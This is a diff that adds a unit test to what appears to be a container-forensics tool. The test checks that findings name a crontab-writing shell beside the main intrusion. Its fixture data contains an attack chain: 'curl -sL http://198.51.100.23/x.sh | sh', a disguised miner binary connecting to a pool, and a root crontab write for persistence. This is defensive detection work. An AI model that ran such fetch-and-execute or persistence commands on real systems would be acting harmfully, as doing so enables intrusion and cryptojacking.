@@ -891,3 +891,21 @@ def test_a_kernel_started_by_a_request_and_running_a_shell_later_names_that_requ
     assert any("just before the service process that started /bin/sh (/usr/bin/python3 -m ipykernel_launcher"
                in n for n in f["notes"])
     c_.close()
+
+
+def test_a_service_shell_that_only_writes_a_crontab_is_a_session_named_beside_the_main_one(tmp_path):
+    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/python3", "arguments": "-m ipykernel_launcher"}
+    sh, a = _run(21, server, "/bin/sh", "-c 'curl -sL http://198.51.100.23/x.sh | sh'", "2026-03-01T10:00:40Z",
+                 init=True)
+    miner, b = _run(22, _ref(sh), "/dev/shm/.kswapd", "-o pool.example:4444", "2026-03-01T10:00:41Z", init=True)
+    cron_sh, c = _run(30, server, "/bin/sh", "-c '(crontab -l; echo x) | crontab -'", "2026-03-01T10:01:20Z", init=True)
+    crontab, d = _run(31, _ref(cron_sh), "/usr/bin/crontab", "-", "2026-03-01T10:01:20.1Z", init=True)
+    wrote = json.dumps({"process_kprobe": {"process": crontab, "parent": _ref(cron_sh), "function_name": "security_file_open",
+                                           "args": [{"file_arg": {"path": "/var/spool/cron/crontabs/root"}}]},
+                        "node_name": NODE, "time": "2026-03-01T10:01:20.2Z"})
+    c_ = _case(tmp_path, [a, b, c, d, wrote, _connect(miner, _ref(sh), 41000, "203.0.113.50", 4444, "2026-03-01T10:00:42Z"),
+                          _alert_on(22, "Drop and execute new binary in container", "Critical", "2026-03-01T10:00:41.1Z")])
+    f = H.derive_findings(c_)
+    assert f["entry"]["exec_id"] == _id(21)
+    assert any("in the same pod also: /bin/sh -c '(crontab -l; echo x) | crontab -'" in n for n in f["notes"])
+    c_.close()
